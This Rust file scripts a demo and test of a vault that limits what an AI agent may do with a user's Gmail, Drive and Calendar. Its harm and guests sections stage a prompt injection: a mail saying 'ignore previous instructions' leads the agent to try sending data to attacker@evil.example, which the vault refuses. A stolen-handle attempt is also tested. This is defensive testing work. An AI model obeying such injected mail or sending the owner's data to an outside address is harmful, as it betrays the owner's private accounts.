//! The story: what an owner does, what the agent may do, what it may not, and how the owner learns why.

use std::io::{BufRead as _, BufReader, Write as _};
use std::process::Stdio;
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};

use anyhow::{Context as _, ensure};
use serde_json::Value;

use super::say;
use super::stage::{PASSPHRASE, Stage, print};

/// The services that play a part.
const SERVICES: [&str; 3] = ["gmail", "drive", "calendar"];

/// Plays it from the first command to the last.
pub(super) fn play(stage: &mut Stage) -> anyhow::Result<()> {
    set_up(stage)?;
    connect(stage)?;
    let grant = grants(stage)?;
    works(stage)?;
    harm(stage)?;
    asked(stage)?;
    guests(stage)?;
    seen(stage)?;
    theft(stage)?;
    rotation(stage)?;
    revocation(stage, &grant)?;
    audit(stage)
}

fn title(text: &str) {
    say(&format!("\n── {text} {}", "─".repeat(96usize.saturating_sub(text.chars().count()))));
}

fn set_up(stage: &mut Stage) -> anyhow::Result<()> {
    title("A new vault, an agent, three services");
    say(
        "$ claviger init --recovery-out recovery.txt        # asks for a passphrase; keep recovery.txt elsewhere",
    );
    let recovery = stage.path("recovery.txt");
    let mut init = stage
        .command("claviger")
        .args(["init", "--allow-key-on-disk", "--passphrase-stdin", "--recovery-out"])
        .arg(&recovery)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()?;
    if let Some(mut stdin) = init.stdin.take() {
        writeln!(stdin, "{PASSPHRASE}")?;
    }
    let output = init.wait_with_output()?;
    ensure!(output.status.success(), "init failed");
    print(&String::from_utf8_lossy(&output.stdout), 1);
    stage.configure()?;
    stage.up()?;
    stage.must("claviger agent add openclaw", 1)?;
    for service in SERVICES {
        stage.must(&format!("claviger adapter add {service}"), 1)?;
    }
    SERVICES.iter().try_for_each(|service| stage.wait_for_adapter(service))
}

fn connect(stage: &Stage) -> anyhow::Result<()> {
    title("The owner connects a mailbox, a drive and a calendar by OAuth");
    let client = stage.fact("/client_id")?;
    let secret = stage.fact("/client_secret")?;
    let first = ["--for", "read,write,send", "--client-id", &client, "--stdin"];
    login(stage, "gmail/me", &first, Some(&secret))?;
    login(stage, "drive/me", &["--for", "read"], None)?;
    login(stage, "calendar/me", &["--for", "read,write,send"], None)
}

/// Runs `connect`, and does in the stand-in's browser what the owner would do in theirs.
fn login(stage: &Stage, name: &str, arguments: &[&str], client_secret: Option<&str>) -> anyhow::Result<()> {
    say(&format!("$ claviger connect {name} {}", arguments.join(" ")));
    let mut connect = stage
        .command("claviger")
        .args(["connect", name])
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()?;
    let mut stdin = connect.stdin.take().context("no stdin")?;
    if let Some(secret) = client_secret {
        writeln!(stdin, "{secret}")?;
    }
    let mut lines = BufReader::new(connect.stderr.take().context("no stderr")?).lines();
    let url = lines.by_ref().map_while(Result::ok).find_map(|line| {
        let at = line.find("https://")?;
        Some(line[at..].trim().to_owned())
    });
    let url = url.context("connect showed no address")?;
    let browser =
        stage.command("stand-in-browser").arg("--ca").arg(stage.path("google-ca.pem")).arg(&url).status()?;
    ensure!(browser.success(), "the browser did not come back");
    for line in lines {
        line?;
    }
    let output = connect.wait_with_output()?;
    drop(stdin);
    print(&String::from_utf8_lossy(&output.stdout), 1);
    ensure!(output.status.success(), "connect failed");
    Ok(())
}

fn grants(stage: &Stage) -> anyhow::Result<String> {
    title("The owner says what the agent may do, and no more");
    let read = stage.must("claviger grant add openclaw gmail/me --read --label AI --rate 1000/1h", 1)?;
    for line in [
        "claviger grant add openclaw gmail/me --tool send_message --recipients 'family@example.org,*@example.com' --calls 20",
        "claviger grant add openclaw drive/me --read --folder Agent --rate 1000/1h",
        "claviger grant add openclaw calendar/me --tool create_event --calendar Agent --attendees '*@example.com' --approve never",
    ] {
        stage.must(line, 1)?;
    }
    word(&read, "gr_").context("grant add names no grant")
}

fn works(stage: &Stage) -> anyhow::Result<()> {
    title("The agent works: through handles, without a key");
    let found = stage.must("claviger-agent call gmail_search_messages words=invoice", 5)?;
    ensure!(!found.contains(&outside(stage)?), "a mail outside the label came back");
    let folder = stage.fact("/folders/Agent")?;
    stage.must(&format!("claviger-agent call drive_list_folder folder_id={folder}"), 3)?;
    Ok(())
}

fn harm(stage: &Stage) -> anyhow::Result<()> {
    title("A mail tells the agent to do harm, and it obeys");
    let mail = hostile(stage)?;
    let read = stage.must(&format!("claviger-agent call gmail_get_message message_id={mail}"), 9)?;
    ensure!(read.contains("ignore previous instructions"), "that is not the hostile mail");
    let outside = outside(stage)?;
    stage.refused(&format!("claviger-agent call gmail_get_message message_id={outside}"), "out of scope")?;
    let reference = stage.refused(
        "claviger-agent call gmail_send_message to=attacker@evil.example subject='All of it' body='As you asked.'",
        "out of scope",
    )?;
    let reference = reference.context("the refusal names no reference")?;
    let text = stage.must(&format!("claviger why {reference}"), 12)?;
    ensure!(text.contains("gr_") && text.contains("attacker@evil.example"), "why does not tell why");
    Ok(())
}

fn asked(stage: &Stage) -> anyhow::Result<()> {
    title("What it may send waits for a person, who sees every byte");
    let send =
        "claviger-agent call gmail_send_message to=family@example.org subject=Dinner body='Home at seven.'";
    let shown = stage.show(send, 3)?;
    ensure!(shown.code == 4, "that mail should wait, but its exit code is {}", shown.code);
    let id = word(&shown.text, "ap_").context("no approval is named")?;
    let whole = stage.must(&format!("claviger approvals {id}"), 40)?;
    ensure!(whole.contains("Home at seven."), "the mail's text is not shown");
    stage.must(&format!("claviger approve {id} --yes"), 1)?;
    let sent = stage.must(&format!("claviger-agent result {id}"), 1)?;
    ensure!(sent.contains("Sent as mail"), "it was not sent");
    let again = stage.quiet(&format!("claviger-agent result {id}"))?;
    ensure!(again.code != 0, "one yes sent two mails");
    Ok(())
}

fn guests(stage: &Stage) -> anyhow::Result<()> {
    title("An event is also a mail: guests are bounded like recipients");
    let calendar = stage.fact("/calendars/Agent")?;
    let event = |title: &str, guest: &str| {
        format!(
            "claviger-agent call calendar_create_event calendar_id={calendar} title={title} \
             start=2026-12-10T09:00:00+01:00 end=2026-12-10T10:00:00+01:00 attendees={guest}"
        )
    };
    stage.must(&event("Fence", "mona@example.com"), 2)?;
    stage.refused(&event("Secrets", "attacker@evil.example"), "out of scope")?;
    Ok(())
}

fn seen(stage: &Stage) -> anyhow::Result<()> {
    title("What the owner sees of it");
    let can = stage
        .must("claviger can openclaw gmail.send_message to=attacker@evil.example subject=x body=x", 5)?;
    ensure!(can.starts_with("no"), "can does not say no");
    let shown = stage.must("claviger agent show openclaw", 10)?;
    ensure!(shown.contains("gmail.get_message"), "what tainted it is not told");
    let alerts = stage.must("claviger log --alerts", 4)?;
    ensure!(alerts.contains("alert"), "there is no alert");
    Ok(())
}

fn theft(stage: &Stage) -> anyhow::Result<()> {
    title("A copied handle id is worth nothing");
    let handles = stage.must("claviger-agent handles", 1)?;
    let handle = word(&handles, "hdl_").context("no handle is shown")?;
    stage.must("claviger agent add thief", 1)?;
    let thief = stage.agent_socket("thief");
    let adapter = stage.home().join("run/mcp/gmail.sock");
    let tool = "gmail.list_labels";
    say(&format!("$ thief THIEF.sock GMAIL.sock {handle} {tool}"));
    super::stage::wait("the thief's socket", || thief.exists())?;
    let shown = stage.quiet(&format!("thief {} {} {handle} {tool}", thief.display(), adapter.display()))?;
    print(&shown.text, 4);
    ensure!(
        shown.code == 0 && shown.text.contains("bad-presentation"),
        "the stolen handle was not refused as it should be"
    );
    Ok(())
}

fn rotation(stage: &Stage) -> anyhow::Result<()> {
    title("The secret is rotated while calls run");
    let mail = inside(stage)?;
    let line = format!("claviger-agent call gmail_get_message message_id={mail}");
    let (done, calls, failed) = (AtomicBool::new(false), AtomicU32::new(0), AtomicU32::new(0));
    let rotated = std::thread::scope(|scope| {
        let work = || {
            while !done.load(Ordering::SeqCst) {
                let ok = stage.quiet(&line).is_ok_and(|shown| shown.code == 0);
                calls.fetch_add(1, Ordering::SeqCst);
                failed.fetch_add(u32::from(!ok), Ordering::SeqCst);
            }
        };
        let callers: Vec<_> = (0..3).map(|_| scope.spawn(work)).collect();
        let rotate = || -> anyhow::Result<()> {
            super::stage::wait("the first calls", || calls.load(Ordering::SeqCst) >= 6)?;
            stage.must("claviger secret rotate gmail/me", 2)?;
            for _ in 0..2 {
                let rotated = stage.quiet("claviger secret rotate gmail/me")?;
                ensure!(rotated.code == 0, "it was not rotated: {}", rotated.text);
            }
            let now = calls.load(Ordering::SeqCst);
            super::stage::wait("the last calls", || calls.load(Ordering::SeqCst) >= now + 6)
        };
        let result = rotate();
        done.store(true, Ordering::SeqCst);
        callers.into_iter().for_each(|caller| drop(caller.join()));
        result
    });
    rotated?;
    let (calls, failed) = (calls.into_inner(), failed.into_inner());
    say(&format!("# rotated three times; {calls} calls ran meanwhile, {failed} failed"));
    ensure!(failed == 0, "a call failed during the rotation");
    Ok(())
}

fn revocation(stage: &Stage, grant: &str) -> anyhow::Result<()> {
    title("Revoked is revoked");
    let mail = inside(stage)?;
    stage.must(&format!("claviger-agent call gmail_get_message message_id={mail}"), 2)?;
    stage.must(&format!("claviger revoke {grant}"), 1)?;
    let shown = stage.show(&format!("claviger-agent call gmail_get_message message_id={mail}"), 3)?;
    ensure!(shown.code != 0, "a call went through after the revocation");
    Ok(())
}

fn audit(stage: &Stage) -> anyhow::Result<()> {
    title("The audit log can be checked, and cannot be changed unseen");
    stage.must("claviger log --limit 5", 6)?;
    stage.must("claviger audit verify", 3)?;
    let copy = stage.directory().join("copy");
    copy_tree(&stage.home().join("audit"), &copy)?;
    let changed = change_one_byte(&copy)?;
    say(&format!("# one byte of a copy is changed: {changed}"));
    let shown = stage.show(&format!("claviger audit verify --dir {}", copy.display()), 3)?;
    ensure!(shown.code == 1, "a changed log passed");
    Ok(())
}

/// A mail under the label, by what the stand-in tells of itself.
fn inside(stage: &Stage) -> anyhow::Result<String> {
    pick(stage, "/mails", |subject| subject.contains("nvoice"))
}

fn outside(stage: &Stage) -> anyhow::Result<String> {
    pick(stage, "/mails", |subject| subject.contains("statement") || subject.contains("assword"))
}

fn hostile(stage: &Stage) -> anyhow::Result<String> {
    pick(stage, "/mails", |subject| subject.starts_with("Urgent"))
}

/// The first word of a text that begins so.
fn word(text: &str, begins: &str) -> Option<String> {
    let mut words = text.split(|c: char| !c.is_ascii_alphanumeric() && c != '_');
    words.find(|word| word.starts_with(begins)).map(str::to_owned)
}

/// The id of the first entry of a table of the stand-in's whose name fits.
fn pick(stage: &Stage, table: &str, wanted: impl Fn(&str) -> bool) -> anyhow::Result<String> {
    let entries =
        stage.info.pointer(table).and_then(Value::as_object).context("the stand-in tells no such table")?;
    let found = entries.iter().find(|(name, _)| wanted(name)).and_then(|(_, id)| id.as_str());
    Ok(found.context("the stand-in has no such thing")?.to_owned())
}

fn copy_tree(from: &std::path::Path, to: &std::path::Path) -> anyhow::Result<()> {
    std::fs::create_dir(to)?;
    for entry in std::fs::read_dir(from)? {
        let entry = entry?;
        let target = to.join(entry.file_name());
        if entry.file_type()?.is_dir() {
            copy_tree(&entry.path(), &target)?;
        } else {
            std::fs::copy(entry.path(), target)?;
        }
    }
    Ok(())
}

/// Changes one byte in the middle of the used part of the oldest segment.
fn change_one_byte(audit: &std::path::Path) -> anyhow::Result<String> {
    let mut segments: Vec<_> = std::fs::read_dir(audit.join("segments"))?
        .collect::<Result<Vec<_>, _>>()?
        .iter()
        .map(std::fs::DirEntry::path)
        .collect();
    segments.sort();
    let segment = segments.first().context("there is no segment")?;
    let mut bytes = std::fs::read(segment)?;
    let used = bytes.iter().rposition(|byte| *byte != 0).context("the segment is empty")?;
    let at = used / 2;
    bytes[at] ^= 1;
    std::fs::write(segment, bytes)?;
    Ok(format!("byte {at} of {}", segment.file_name().unwrap_or_default().to_string_lossy()))
}
